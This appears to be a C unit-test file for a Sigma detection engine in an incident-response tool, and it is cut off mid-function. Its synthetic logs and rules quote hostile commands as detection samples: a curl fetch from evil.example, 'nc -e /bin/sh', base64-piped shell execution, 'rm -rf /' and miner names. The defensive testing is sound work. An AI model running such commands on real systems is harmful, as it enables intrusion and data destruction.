/*
 * The Sigma engine with hand-written rules in the SigmaHQ format: every
 * modifier and condition form, the logsource and field mapping onto the
 * timeline's events, skip reasons, malformed and hostile rule files.
 */
#include <fcntl.h>
#include <sys/stat.h>
#include <time.h>

#include "unit.h"

#include "hunt/sigma-int.h"

struct warns {
	unsigned n;
	char all[8192];
};

static void
on_warn(const char *msg, void *arg)
{
	struct warns *w = arg;
	size_t n = strlen(w->all);

	w->n++;
	snprintf(w->all + n, sizeof w->all - n, "%s\n", msg);
}

struct run {
	struct irt_sigma *s;
	struct irt_buf out;
	unsigned hits;
};

/* One line per hit: "id field=value" (or "id -" without a value). */
static int
on_hit(const struct irt_sigma_hit *h, void *arg)
{
	struct run *r = arg;

	r->hits++;
	irt_buf_printf(&r->out, "%s", h->id);
	if (h->field != NULL || h->value != NULL)
		irt_buf_printf(&r->out, " %s=%.*s", h->field ? h->field : "",
		    (int)h->value_len, h->value ? h->value : "");
	irt_buf_putc(&r->out, '\n');
	return 0;
}

static int
on_event(const struct irt_tl_event *ev, void *arg)
{
	struct run *r = arg;

	return irt_sigma_match(r->s, ev, on_hit, r);
}

/* Matches the events of a log of a kind against a loaded rule set. */
static char *
match_log(struct irt_sigma *s, const char *kind, const char *log)
{
	struct irt_tl_opts o;
	struct irt_tl *tl;
	struct run r;

	memset(&r, 0, sizeof r);
	r.s = s;
	memset(&o, 0, sizeof o);
	o.year = 2026;
	o.each = on_event;
	o.each_arg = &r;
	o.no_store = true;
	assert_int_equal(irt_tl_new(&tl, &o), 0);
	assert_int_equal(
	    irt_tl_add_buffer(tl, kind, "log", log, strlen(log), "web01"), 0);
	irt_tl_free(tl);
	irt_buf_puts(&r.out, "");
	return irt_buf_detach(&r.out);
}

/* Loads rules that must all load, and matches a log. */
static char *
hunt(const char *rules, const char *kind, const char *log)
{
	struct irt_sigma *s;
	struct irt_sigma_stats st;
	struct warns w;
	char *out;

	memset(&w, 0, sizeof w);
	assert_int_equal(irt_sigma_new(&s), 0);
	assert_int_equal(irt_sigma_load_buffer(
	                     s, "rules.yml", rules, strlen(rules), on_warn, &w),
	    0);
	irt_sigma_stats(s, &st);
	if (st.loaded != st.rules)
		fail_msg("not every rule loaded: %s", w.all);
	out = match_log(s, kind, log);
	irt_sigma_free(s);
	return out;
}

/* Loads rules and returns the warnings; st gets the counts. */
static char *
load_warns(const char *rules, struct irt_sigma_stats *st)
{
	struct irt_sigma *s;
	struct warns w;

	memset(&w, 0, sizeof w);
	assert_int_equal(irt_sigma_new(&s), 0);
	assert_int_equal(irt_sigma_load_buffer(
	                     s, "r.yml", rules, strlen(rules), on_warn, &w),
	    0);
	irt_sigma_stats(s, st);
	irt_sigma_free(s);
	return strdup(w.all);
}

#define SYSLOG                                                                 \
	"Nov 30 10:00:01 web01 sshd[812]: Accepted publickey for root from "   \
	"203.0.113.9 port 51111 ssh2\n"                                        \
	"Nov 30 10:00:02 web01 sshd[813]: Failed password for invalid user "   \
	"admin from 198.51.100.7 port 40000 ssh2\n"                            \
	"Nov 30 10:00:03 web01 sudo:    alice : TTY=pts/0 ; PWD=/home/alice "  \
	"; USER=#-1 ; COMMAND=/bin/bash -i\n"                                  \
	"Nov 30 10:00:04 web01 CRON[900]: (root) CMD (/tmp/.x/run.sh)\n"       \
	"Nov 30 10:00:05 web01 kernel: [1.0] Segfault at 0 ip 41414141\n"

static void
test_keywords(void **state)
{
	char *out;

	(void)state;
	out = hunt("title: k\n"
	           "id: kw-1\n"
	           "logsource: {product: linux, service: sshd}\n"
	           "detection:\n"
	           "  keywords:\n"
	           "    - 'FAILED PASSWORD'\n"
	           "    - 'no such thing'\n"
	           "  condition: keywords\n"
	           "level: medium\n",
	    "syslog", SYSLOG);
	/* case-insensitive substring, only sshd lines (service: sshd) */
	assert_string_equal(out,
	    "kw-1 =sshd[813]: Failed password for invalid user admin from "
	    "198.51.100.7 port 40000 ssh2\n");
	free(out);
	/* one keyword as a scalar; wildcards inside keywords */
	out = hunt("id: kw-2\nlogsource: {product: linux}\n"
	           "detection:\n  k: 'segfault*ip 4141'\n  condition: k\n",
	    "syslog", SYSLOG);
	assert_non_null(strstr(out, "kw-2 =kernel: [1.0] Segfault"));
	free(out);
}

static void
test_services(void **state)
{
	char *out;
	static const char rules[] =
	    "id: cron\nlogsource: {product: linux, service: cron}\n"
	    "detection: {k: ['/tmp/'], condition: k}\n"
	    "---\n"
	    "id: sudo\nlogsource: {product: linux, service: sudo}\n"
	    "detection:\n"
	    "  s:\n"
	    "    USER|startswith: '#-'\n"
	    "    COMMAND|endswith: '/bash -i'\n"
	    "  condition: s\n"
	    "---\n"
	    "id: auth\nlogsource: {product: linux, service: auth}\n"
	    "detection: {k: ['accepted publickey'], condition: k}\n"
	    "---\n"
	    "id: syslog\nlogsource: {product: linux, service: syslog}\n"
	    "detection: {k: ['ip 41414141'], condition: k}\n";

	(void)state;
	out = hunt(rules, "syslog", SYSLOG);
	assert_string_equal(out,
	    "auth =sshd[812]: Accepted publickey for root from 203.0.113.9 "
	    "port 51111 ssh2\n"
	    "sudo USER=#-1\n"
	    "cron =CRON[900]: (root) CMD (/tmp/.x/run.sh)\n"
	    "syslog =kernel: [1.0] Segfault at 0 ip 41414141\n");
	free(out);
}

#define PROC_LOG                                                               \
	"type=SYSCALL msg=audit(1764547200.123:100): arch=c000003e "           \
	"syscall=59 success=yes exit=0 a0=55d0 a1=55d1 a2=55d2 a3=0 items=2 "  \
	"ppid=1000 pid=1234 auid=1000 uid=0 gid=0 euid=0 ses=3 comm=\"curl\" " \
	"exe=\"/usr/bin/curl\" key=\"exec_watch\"\n"                           \
	"type=EXECVE msg=audit(1764547200.123:100): argc=3 a0=\"curl\" "       \
	"a1=\"-s\" a2=687474703A2F2F6576696C2E6578616D706C652F6120622E7368\n"  \
	"type=CWD msg=audit(1764547200.123:100): cwd=\"/tmp\"\n"               \
	"type=PATH msg=audit(1764547200.123:100): item=0 "                     \
	"name=\"/usr/bin/curl\" inode=1 nametype=NORMAL\n"                     \
	"type=PROCTITLE msg=audit(1764547200.123:100): "                       \
	"proctitle=6375726C002D73\n"                                           \
	"type=EOE msg=audit(1764547200.123:100):\n"

static void
test_modifiers(void **state)
{
	char *out;
	static const char rules[] =
	    "id: contains\nlogsource: {product: linux, category: "
	    "process_creation}\n"
	    "detection: {s: {CommandLine|contains: 'EVIL.example'}, "
	    "condition: s}\n"
	    "---\n"
	    "id: startswith\nlogsource: {product: linux, category: "
	    "process_creation}\n"
	    "detection: {s: {CommandLine|startswith: 'curl -s '}, "
	    "condition: s}\n"
	    "---\n"
	    "id: endswith\nlogsource: {product: linux, category: "
	    "process_creation}\n"
	    "detection: {s: {Image|endswith: ['/wget', '/curl']}, "
	    "condition: s}\n"
	    "---\n"
	    "id: all\nlogsource: {product: linux, category: "
	    "process_creation}\n"
	    "detection: {s: {CommandLine|contains|all: ['curl', ' -s', "
	    "'a b.sh']}, condition: s}\n"
	    "---\n"
	    "id: all-not\nlogsource: {product: linux, category: "
	    "process_creation}\n"
	    "detection: {s: {CommandLine|contains|all: ['curl', 'wget']}, "
	    "condition: s}\n"
	    "---\n"
	    "id: re\nlogsource: {product: linux, category: "
	    "process_creation}\n"
	    "detection: {s: {CommandLine|re: '^curl\\s+-s\\s+http://[a-z.]+/'},"
	    " condition: s}\n"
	    "---\n"
	    "id: re-cased\nlogsource: {product: linux, category: "
	    "process_creation}\n"
	    "detection: {s: {CommandLine|re: '^CURL'}, condition: s}\n"
	    "---\n"
	    "id: re-i\nlogsource: {product: linux, category: "
	    "process_creation}\n"
	    "detection: {s: {CommandLine|re|i: '^CURL'}, condition: s}\n"
	    "---\n"
	    "id: cased\nlogsource: {product: linux, category: "
	    "process_creation}\n"
	    "detection: {s: {Image|cased|endswith: '/CURL'}, condition: s}\n"
	    "---\n"
	    "id: eq\nlogsource: {product: linux, category: "
	    "process_creation}\n"
	    "detection: {s: {Image: '/USR/BIN/CURL', CurrentDirectory: '/tmp',"
	    " User: root, ProcessId: 1234, ParentProcessId: 1000}, "
	    "condition: s}\n"
	    "---\n"
	    "id: exists\nlogsource: {product: linux, category: "
	    "process_creation}\n"
	    "detection: {s: {Image|exists: true}, f: {LogonId|exists: false},"
	    " condition: s and not f}\n"
	    "---\n"
	    "id: num\nlogsource: {product: linux, category: "
	    "process_creation}\n"
	    "detection: {s: {ProcessId|gt: 1233, ParentProcessId|lte: 1000},"
	    " f: {ProcessId|lt: 1234}, g: {ProcessId|gte: 1235}, "
	    "condition: s and not f and not g}\n";

	(void)state;
	out = hunt(rules, "audit", PROC_LOG);
	assert_string_equal(out,
	    "contains CommandLine=curl -s http://evil.example/a b.sh\n"
	    "startswith CommandLine=curl -s http://evil.example/a b.sh\n"
	    "endswith Image=/usr/bin/curl\n"
	    "all CommandLine=curl -s http://evil.example/a b.sh\n"
	    "re CommandLine=curl -s http://evil.example/a b.sh\n"
	    "re-i CommandLine=curl -s http://evil.example/a b.sh\n"
	    "eq Image=/usr/bin/curl\n"
	    "exists Image=/usr/bin/curl\n"
	    "num ProcessId=1234\n");
	free(out);
}

static void
test_wildcards(void **state)
{
	char *out;
	static const char rules[] =
	    "id: star\nlogsource: {product: linux, service: syslog}\n"
	    "detection: {s: {hostname: 'w*1'}, condition: s}\n"
	    "---\n"
	    "id: qmark\nlogsource: {product: linux, service: syslog}\n"
	    "detection: {s: {hostname: 'we?01'}, condition: s}\n"
	    "---\n"
	    "id: qmark-no\nlogsource: {product: linux, service: syslog}\n"
	    "detection: {s: {hostname: 'we?1'}, condition: s}\n"
	    "---\n"
	    "id: esc-star\nlogsource: {product: linux, service: syslog}\n"
	    "detection: {k: ['a\\*b'], condition: k}\n"
	    "---\n"
	    "id: esc-q\nlogsource: {product: linux, service: syslog}\n"
	    "detection: {k: ['what\\?'], condition: k}\n"
	    "---\n"
	    "id: esc-bs\nlogsource: {product: linux, service: syslog}\n"
	    "detection: {k: ['c:\\\\*x'], condition: k}\n"
	    "---\n"
	    "id: plain-bs\nlogsource: {product: linux, service: syslog}\n"
	    "detection: {k: ['\\windows\\'], condition: k}\n"
	    "---\n"
	    "id: glob\nlogsource: {product: linux, service: syslog}\n"
	    "detection: {s: {pid: '1?0*'}, condition: s}\n";
	static const char log[] =
	    "Nov 30 10:00:01 web01 app[100]: a*b and axb\n"
	    "Nov 30 10:00:02 web01 app[2]: axb only, what?\n"
	    "Nov 30 10:00:03 web01 app[3]: path c:\\dir\\x and \\windows\\\n"
	    "Nov 30 10:00:04 web01 app[4]: what!\n";

	(void)state;
	out = hunt(rules, "syslog", log);
	/* line 1: a literal '*'; line 2 a literal '?'; line 3 a
	 * backslash before a wildcard, and backslashes kept as they are */
	assert_string_equal(out,
	    "star hostname=web01\n"
	    "qmark hostname=web01\n"
	    "esc-star =app[100]: a*b and axb\n"
	    "glob pid=100\n"
	    "star hostname=web01\n"
	    "qmark hostname=web01\n"
	    "esc-q =app[2]: axb only, what?\n"
	    "star hostname=web01\n"
	    "qmark hostname=web01\n"
	    "esc-bs =app[3]: path c:\\dir\\x and \\windows\\\n"
	    "plain-bs =app[3]: path c:\\dir\\x and \\windows\\\n"
	    "star hostname=web01\n"
	    "qmark hostname=web01\n");
	free(out);
}

static void
test_base64_cidr(void **state)
{
	char *out;
	static const char rules[] =
	    "id: b64\nlogsource: {product: linux, service: syslog}\n"
	    "detection: {k: {'|base64|contains': 'curl http://evil'}, "
	    "condition: k}\n"
	    "---\n"
	    "id: b64off\nlogsource: {product: linux, service: syslog}\n"
	    "detection: {k: {'|base64offset|contains': 'whoami'}, "
	    "condition: k}\n"
	    "---\n"
	    "id: cidr\nlogsource: {product: linux, category: "
	    "network_connection}\n"
	    "detection: {s: {DestinationIp|cidr: ['203.0.113.0/24', "
	    "'2001:db8::/32'], DestinationPort: [4444, 443], Initiated: "
	    "'true'}, condition: s}\n"
	    "---\n"
	    "id: cidr-no\nlogsource: {product: linux, category: "
	    "network_connection}\n"
	    "detection: {s: {DestinationIp|cidr: '10.0.0.0/8'}, "
	    "condition: s}\n";
	static const char log[] =
	    "Nov 30 10:00:01 web01 app[1]: got Y3VybCBodHRwOi8vZXZpbA== ok\n"
	    "Nov 30 10:00:02 web01 app[2]: "
	    "ZWNobyBoaTsgd2hvYW1pIHwgbmMgZXZpbCA0NDQ0\n"
	    "Nov 30 10:00:03 web01 app[3]: plain text whoami\n";
	static const char audit[] =
	    "type=SYSCALL msg=audit(1764547200.200:7): arch=c000003e "
	    "syscall=42 success=no exit=-115 a0=3 pid=55 uid=33 comm=\"sh\" "
	    "exe=\"/bin/dash\"\n"
	    "type=SOCKADDR msg=audit(1764547200.200:7): "
	    "saddr=0200115CCB0071090000000000000000\n"
	    "type=EOE msg=audit(1764547200.200:7):\n"
	    "type=SYSCALL msg=audit(1764547200.300:8): arch=c000003e "
	    "syscall=42 success=no exit=-115 a0=3 pid=56 uid=33 comm=\"sh\" "
	    "exe=\"/bin/dash\"\n"
	    "type=SOCKADDR msg=audit(1764547200.300:8): "
	    "saddr=0A0001BB0000000020010DB800000000000000000000000500000000\n"
	    "type=SYSCALL msg=audit(1764547200.400:9): arch=c000003e "
	    "syscall=49 success=yes exit=0 a0=3 pid=57 uid=0 comm=\"nc\" "
	    "exe=\"/bin/nc\"\n"
	    "type=SOCKADDR msg=audit(1764547200.400:9): "
	    "saddr=0200115CCB0071090000000000000000\n";

	(void)state;
	out = hunt(rules, "syslog", log);
	/* "whoami" at offset 2 of the encoded text; the plain word does
	 * not match */
	assert_string_equal(out,
	    "b64 =app[1]: got Y3VybCBodHRwOi8vZXZpbA== ok\n"
	    "b64off =app[2]: ZWNobyBoaTsgd2hvYW1pIHwgbmMgZXZpbCA0NDQ0\n");
	free(out);
	/* connect() to 203.0.113.9:4444 and [2001:db8::5]:443; the bind()
	 * (syscall 49) is no connection */
	out = hunt(rules, "audit", audit);
	assert_string_equal(out,
	    "cidr DestinationIp=203.0.113.9\n"
	    "cidr DestinationIp=2001:db8::5\n");
	free(out);
}

static void
test_conditions(void **state)
{
	char *out;
	static const char rules[] =
	    "id: and-not\nlogsource: {product: linux, service: syslog}\n"
	    "detection:\n"
	    "  sel: {pid: 1}\n"
	    "  filter: ['benign']\n"
	    "  condition: sel and not filter\n"
	    "---\n"
	    "id: or-parens\nlogsource: {product: linux, service: syslog}\n"
	    "detection:\n"
	    "  a: ['alpha']\n"
	    "  b: ['beta']\n"
	    "  c: ['gamma']\n"
	    "  condition: (a or b) and not (c)\n"
	    "---\n"
	    "id: one-of\nlogsource: {product: linux, service: syslog}\n"
	    "detection:\n"
	    "  sel_x: ['delta']\n"
	    "  sel_y: ['epsilon']\n"
	    "  other: ['alpha']\n"
	    "  condition: 1 of sel_*\n"
	    "---\n"
	    "id: all-of\nlogsource: {product: linux, service: syslog}\n"
	    "detection:\n"
	    "  sel_x: ['delta']\n"
	    "  sel_y: ['epsilon']\n"
	    "  condition: all of sel_*\n"
	    "---\n"
	    "id: one-of-them\nlogsource: {product: linux, service: syslog}\n"
	    "detection:\n"
	    "  x: ['zeta']\n"
	    "  _hidden: ['alpha']\n"
	    "  condition: 1 of them\n"
	    "---\n"
	    "id: all-of-them\nlogsource: {product: linux, service: syslog}\n"
	    "detection:\n"
	    "  x: ['delta']\n"
	    "  y: ['epsilon']\n"
	    "  condition: all of them\n"
	    "---\n"
	    "id: list\nlogsource: {product: linux, service: syslog}\n"
	    "detection:\n"
	    "  x: ['zeta']\n"
	    "  y: ['beta']\n"
	    "  condition: [x, y]\n"
	    "---\n"
	    "id: maps-or\nlogsource: {product: linux, service: syslog}\n"
	    "detection:\n"
	    "  s:\n"
	    "    - {pid: 1, hostname: nowhere}\n"
	    "    - {pid: 2}\n"
	    "  condition: s\n";
	static const char log[] =
	    "Nov 30 10:00:01 web01 app[1]: alpha benign\n"
	    "Nov 30 10:00:02 web01 app[1]: beta\n"
	    "Nov 30 10:00:03 web01 app[2]: alpha gamma\n"
	    "Nov 30 10:00:04 web01 app[3]: delta\n"
	    "Nov 30 10:00:05 web01 app[4]: delta epsilon\n"
	    "Nov 30 10:00:06 web01 app[5]: zeta\n";

	(void)state;
	out = hunt(rules, "syslog", log);
	assert_string_equal(out,
	    /* line 1: filtered; alpha */
	    "or-parens =app[1]: alpha benign\n"
	    /* line 2 */
	    "and-not pid=1\n"
	    "or-parens =app[1]: beta\n"
	    "list =app[1]: beta\n"
	    /* line 3: gamma excludes; pid 2 */
	    "maps-or pid=2\n"
	    /* line 4 */
	    "one-of =app[3]: delta\n"
	    /* line 5 */
	    "one-of =app[4]: delta epsilon\n"
	    "all-of =app[4]: delta epsilon\n"
	    "all-of-them =app[4]: delta epsilon\n"
	    /* line 6: _hidden is not in "them" */
	    "one-of-them =app[5]: zeta\n"
	    "list =app[5]: zeta\n");
	free(out);
}

static void
test_values(void **state)
{
	char *out;
	static const char rules[] =
	    "id: number\nlogsource: {product: linux, service: syslog}\n"
	    "detection: {s: {pid: 0x10}, condition: s}\n"
	    "---\n"
	    "id: bool\nlogsource: {product: linux, category: "
	    "network_connection}\n"
	    "detection: {s: {Initiated: true}, condition: s}\n"
	    "---\n"
	    "id: quoted-number\nlogsource: {product: linux, service: syslog}\n"
	    "detection: {s: {pid: '016'}, condition: s}\n";
	static const char log[] = "Nov 30 10:00:01 web01 app[16]: x\n"
	                          "Nov 30 10:00:02 web01 app[016]: y\n";
	static const char audit[] =
	    "type=SYSCALL msg=audit(1764547200.200:7): arch=c000003e "
	    "syscall=42 success=no exit=-115 a0=3 pid=55\n"
	    "type=SOCKADDR msg=audit(1764547200.200:7): "
	    "saddr=0200115CCB0071090000000000000000\n";

	(void)state;
	/* 0x10 is the number 16 (as PyYAML reads it): "16" and "016"
	 * both are 16; the quoted '016' is text */
	out = hunt(rules, "syslog", log);
	assert_string_equal(out,
	    "number pid=16\n"
	    "number pid=016\n"
	    "quoted-number pid=016\n");
	free(out);
	out = hunt(rules, "audit", audit);
	assert_string_equal(out, "bool Initiated=true\n");
	free(out);
}

static void
test_audit(void **state)
{
	char *out;
	static const char rules[] =
	    "id: execve\nlogsource: {product: linux, service: auditd}\n"
	    "detection:\n"
	    "  s:\n"
	    "    type: EXECVE\n"
	    "    a0: curl\n"
	    "    a2|contains: 'a b.sh'\n"
	    "  condition: s\n"
	    "---\n"
	    "id: syscall\nlogsource: {product: linux, service: auditd}\n"
	    "detection:\n"
	    "  s: {type: SYSCALL, SYSCALL: execve, key: exec_watch, "
	    "comm: curl}\n"
	    "  condition: s\n"
	    "---\n"
	    "id: proctitle\nlogsource: {product: linux, service: auditd}\n"
	    "detection:\n"
	    "  s: {proctitle: 'curl -s'}\n"
	    "  condition: s\n"
	    "---\n"
	    "id: created\nlogsource: {product: linux, category: file_event}\n"
	    "detection:\n"
	    "  s: {TargetFilename|startswith: '/etc/cron.d/', Image: "
	    "'/usr/bin/vi'}\n"
	    "  condition: s\n"
	    "---\n"
	    "id: user-msg\nlogsource: {product: linux, service: auditd}\n"
	    "detection:\n"
	    "  s: {type: USER_CMD, cmd|contains: 'rm -rf', res: success}\n"
	    "  condition: s\n";
	static const char created[] =
	    "type=SYSCALL msg=audit(1764547300.000:9): arch=c000003e "
	    "syscall=257 success=yes exit=3 pid=77 uid=0 comm=\"vi\" "
	    "exe=\"/usr/bin/vi\"\n"
	    "type=CWD msg=audit(1764547300.000:9): cwd=\"/etc/cron.d\"\n"
	    "type=PATH msg=audit(1764547300.000:9): item=1 "
	    "name=6576696C206A6F62 nametype=CREATE\n"
	    "type=USER_CMD msg=audit(1764547301.000:10): pid=5 uid=1000 "
	    "msg='cwd=\"/root\" cmd=726D202D7266202F terminal=pts/0 "
	    "res=success'\n";

	(void)state;
	out = hunt(rules, "audit", PROC_LOG);
	/* EXECVE arguments decoded from hex; SYSCALL named by number */
	assert_string_equal(out,
	    "execve type=EXECVE\n"
	    "syscall type=SYSCALL\n"
	    "proctitle proctitle=curl -s\n");
	free(out);
	/* a relative name made absolute with the CWD record; a USER_CMD
	 * record's msg='...' pairs */
	out = hunt(rules, "audit", created);
	assert_string_equal(out,
	    "created TargetFilename=/etc/cron.d/evil job\n"
	    "user-msg type=USER_CMD\n");
	free(out);
}

static void
test_sources(void **state)
{
	char *out;
	static const char rules[] =
	    "id: history\nlogsource: {product: linux, category: "
	    "process_creation}\n"
	    "detection: {s: {CommandLine|contains: 'base64 -d'}, "
	    "condition: s}\n"
	    "---\n"
	    "id: fs\nlogsource: {product: linux, category: file_event}\n"
	    "detection: {s: {TargetFilename|endswith: '/authorized_keys'}, "
	    "condition: s}\n";
	static const char bash[] = "#1764547200\n"
	                           "echo aGkK | base64 -d | sh\n"
	                           "#1764547210\n"
	                           "ls\n";
	static const char body[] =
	    "0|/root/.ssh/authorized_keys|12|-rw-------|0|0|100|1764547200|"
	    "1764547200|1764547200|0\n"
	    "0|/root/.ssh/known_hosts|13|-rw-------|0|0|100|1764547200|"
	    "1764547200|1764547200|0\n";

	(void)state;
	out = hunt(rules, "bash_history", bash);
	assert_string_equal(
	    out, "history CommandLine=echo aGkK | base64 -d | sh\n");
	free(out);
	out = hunt(rules, "bodyfile", body);
	assert_string_equal(
	    out, "fs TargetFilename=/root/.ssh/authorized_keys\n");
	free(out);
	/* shell histories have no Image: such rules never see them */
	out = hunt("id: img\nlogsource: {product: linux, category: "
	           "process_creation}\n"
	           "detection: {s: {Image|endswith: '/sh'}, condition: s}\n",
	    "bash_history", bash);
	assert_string_equal(out, "");
	free(out);
}

static void
test_windash(void **state)
{
	char *out;
	static const char rules[] =
	    "id: wd\nlogsource: {product: linux, category: "
	    "process_creation}\n"
	    "detection: {s: {CommandLine|windash|contains: ' -r /'}, "
	    "condition: s}\n";
	static const char bash[] = "#1764547200\n"
	                           "getcap -r /\n"
	                           "#1764547201\n"
	                           "getcap /r /\n"
	                           "#1764547202\n"
	                           "getcap \xe2\x80\x93r /\n"
	                           "#1764547203\n"
	                           "getcap +r /\n";

	(void)state;
	/* '-' before a word may be '/' or a Unicode dash, not '+' */
	out = hunt(rules, "bash_history", bash);
	assert_string_equal(out,
	    "wd CommandLine=getcap -r /\n"
	    "wd CommandLine=getcap /r /\n"
	    "wd CommandLine=getcap \xe2\x80\x93r /\n");
	free(out);
}

static void
test_parent(void **state)
{
	char *out;
	static const char rules[] =
	    "id: parent\nlogsource: {product: linux, category: "
	    "process_creation}\n"
	    "detection:\n"
	    "  s:\n"
	    "    ParentImage|endswith: '/java'\n"
	    "    ParentCommandLine|contains: 'confluence'\n"
	    "    Image|endswith: '/sh'\n"
	    "  condition: s\n";
	static const char audit[] =
	    "type=SYSCALL msg=audit(1764547200.000:1): arch=c000003e "
	    "syscall=59 success=yes exit=0 ppid=1 pid=700 uid=1001 "
	    "comm=\"java\" exe=\"/usr/lib/jvm/bin/java\"\n"
	    "type=EXECVE msg=audit(1764547200.000:1): argc=2 a0=\"java\" "
	    "a1=\"-Dconfluence.home=/var/confluence\"\n"
	    "type=SYSCALL msg=audit(1764547300.000:2): arch=c000003e "
	    "syscall=59 success=yes exit=0 ppid=700 pid=701 uid=1001 "
	    "comm=\"sh\" exe=\"/bin/sh\"\n"
	    "type=EXECVE msg=audit(1764547300.000:2): argc=3 a0=\"sh\" "
	    "a1=\"-c\" a2=\"id\"\n"
	    "type=SYSCALL msg=audit(1764547400.000:3): arch=c000003e "
	    "syscall=59 success=yes exit=0 ppid=999 pid=702 uid=1001 "
	    "comm=\"sh\" exe=\"/bin/sh\"\n"
	    "type=EXECVE msg=audit(1764547400.000:3): argc=1 a0=\"sh\"\n";

	(void)state;
	/* the parent's EXECVE came earlier; pid 999 was never seen */
	out = hunt(rules, "audit", audit);
	assert_string_equal(out, "parent ParentImage=/usr/lib/jvm/bin/java\n");
	free(out);
}

static void
test_decoded_keywords(void **state)
{
	char *out;
	static const char rules[] =
	    "id: kw\nlogsource: {product: linux, service: auditd}\n"
	    "detection: {k: ['evil.example/a b.sh'], condition: k}\n"
	    "---\n"
	    "id: msg\nlogsource: {product: linux, service: syslog}\n"
	    "detection: {s: {message|contains: 'Hotspot'}, condition: s}\n";

	(void)state;
	/* the argument is only in hex in the log: the timeline's message
	 * starts with the decoded command line, and matches */
	out = hunt(rules, "audit", PROC_LOG);
	assert_non_null(strstr(out,
	    "kw =curl -s http://evil.example/a b.sh | type=SYSCALL "
	    "msg=audit(1764547200.123:100): "));
	/* one hit */
	assert_non_null(strchr(out, '\n'));
	assert_int_equal(strchr(out, '\n')[1], '\0');
	free(out);
	out = hunt(rules, "syslog",
	    "Nov 30 10:00:01 web01 NetworkManager[5]: activated Hotspot\n");
	assert_string_equal(
	    out, "msg message=NetworkManager[5]: activated Hotspot\n");
	free(out);
}

/* The prefilter chooses again, by what it counted, which anchors a rule
 * is tested by (after 2,000 and 20,000 events): matches are the same
 * before and after. */
static void
test_prefilter(void **state)
{
	struct irt_buf log = IRT_BUF_INIT;
	char *out;
	int i;
	static const char rules[] =
	    "id: rare\nlogsource: {product: linux, service: syslog}\n"
	    "detection: {k: ['needle-xyz'], condition: k}\n"
	    "---\n"
	    "id: and\nlogsource: {product: linux, service: syslog}\n"
	    "detection:\n"
	    "  host: {hostname: web01}\n"
	    "  kw: ['needle-xyz']\n"
	    "  condition: host and kw\n"
	    "---\n"
	    "id: common\nlogsource: {product: linux, service: syslog}\n"
	    "detection: {s: {message|contains|all: ['app', 'tick 2999']}, "
	    "condition: s}\n";

	(void)state;
	for (i = 0; i < 3000; i++)
		irt_buf_printf(&log,
		    "Nov 30 10:%02d:%02d web01 app[1]: tick %d%s\n",
		    i / 60 % 60, i % 60, i,
		    i == 1 || i == 2990 ? " needle-XYZ" : "");
	out = hunt(rules, "syslog", irt_buf_cstr(&log));
	assert_string_equal(out,
	    "rare =app[1]: tick 1 needle-XYZ\n"
	    "and hostname=web01\n"
	    "rare =app[1]: tick 2990 needle-XYZ\n"
	    "and hostname=web01\n"
	    "common message=app[1]: tick 2999\n");
	free(out);
	irt_buf_release(&log);
}

/* Loads rules and matches a log with the prefilter on or off. */
static char *
hunt_pf(const char *rules, const char *kind, const char *log, bool on)
{
	struct irt_sigma *s;
	struct irt_sigma_stats st;
	char *out;

	assert_int_equal(irt_sigma_new(&s), 0);
	sg_sigma_set_prefilter(s, on);
	assert_int_equal(irt_sigma_load_buffer(
	                     s, "rules.yml", rules, strlen(rules), NULL, NULL),
	    0);
	irt_sigma_stats(s, &st);
	assert_int_equal(st.loaded, st.rules);
	out = match_log(s, kind, log);
	irt_sigma_free(s);
	return out;
}

static unsigned
count_lines(const char *s, const char *prefix)
{
	unsigned n = 0;
	size_t pl = strlen(prefix);

	for (; s != NULL && *s; s = strchr(s, '\n') ? strchr(s, '\n') + 1 : "")
		if (strncmp(s, prefix, pl) == 0 &&
		    (s[pl] == ' ' || s[pl] == '\n'))
			n++;
	return n;
}

/*
 * The prefilter only spares work: every form of condition and value,
 * over thousands of events with the literals in every case and place
 * (and beyond the choices made again at 2,000 events), gives the same
 * hits, in the same order, with it as without it.
 */
static void
test_prefilter_same(void **state)
{
	static const char rules[] =
	    "id: kw\nlogsource: {product: linux, service: syslog}\n"
	    "detection: {k: ['Stopping firewalld', 'xmrig'], condition: k}\n"
	    "---\n"
	    "id: kwall\nlogsource: {product: linux, service: syslog}\n"
	    "detection: {k: {'|all': ['curl', '/tmp/.x']}, condition: k}\n"
	    "---\n"
	    "id: field\nlogsource: {product: linux, service: sshd}\n"
	    "detection:\n"
	    "  s: {user|startswith: 'svc-', src_ip|startswith: '203.0.113.'}\n"
	    "  condition: s\n"
	    "---\n"
	    "id: notfilter\nlogsource: {product: linux, service: syslog}\n"
	    "detection:\n"
	    "  s: {message|contains: 'session opened'}\n"
	    "  f: {message|endswith: 'by (uid=0)'}\n"
	    "  condition: s and not f\n"
	    "---\n"
	    "id: onlynot\nlogsource: {product: linux, service: cron}\n"
	    "detection: {f: ['debian-sa1'], condition: not f}\n"
	    "---\n"
	    "id: oneof\nlogsource: {product: linux, service: syslog}\n"
	    "detection:\n"
	    "  sel_a: {message|contains: 'nmap -sS'}\n"
	    "  sel_b: {message|re: 'masscan\\s+-p\\d+'}\n"
	    "  sel_c: {message|contains|base64offset: 'bash -i'}\n"
	    "  condition: 1 of sel_*\n"
	    "---\n"
	    "id: allof\nlogsource: {product: linux, service: syslog}\n"
	    "detection:\n"
	    "  sel_a: {message|contains: 'wget'}\n"
	    "  sel_b: {message|contains: '/dev/shm/'}\n"
	    "  condition: all of sel_*\n"
	    "---\n"
	    "id: glob\nlogsource: {product: linux, service: syslog}\n"
	    "detection: {s: {message: '*chmod +?x /var/tmp/*'}, "
	    "condition: s}\n"
	    "---\n"
	    "id: whole\nlogsource: {product: linux, service: syslog}\n"
	    "detection: {s: {ident: 'kinsing'}, condition: s}\n"
	    "---\n"
	    "id: short\nlogsource: {product: linux, service: syslog}\n"
	    "detection: {s: {message|contains: 'nc'}, "
	    "f: {message|contains: 'sync'}, condition: s and not f}\n";
	static const char *const words[] = { "Stopping FIREWALLD",
		"xMrIg --donate-level 1", "curl -s http://x/ -o /tmp/.X/a",
		"session opened for user root by (uid=0)",
		"session opened for user deploy by (uid=1000)",
		"NMAP -sS 10.0.0.0/24", "masscan -p80 10.0.0.0/8",
		"masscan -px 1", "echo YmFzaCAtaQ== | base64 -d",
		"echo ZWNobyBiYXNoIC1p | base64 -d",
		"wget http://x -O /dev/shm/y", "wget http://x",
		"chmod +rx /var/tmp/z", "chmod +x /var/tmp/z", "nc -e /bin/sh",
		"rsync -a", "idle", "tick", NULL };
	static const char *const idents[] = { "systemd[1]", "CRON[7]",
		"kinsing", "app[2]", "sshd[3]", NULL };
	struct irt_buf log = IRT_BUF_INIT, alog = IRT_BUF_INIT;
	char *with, *without;
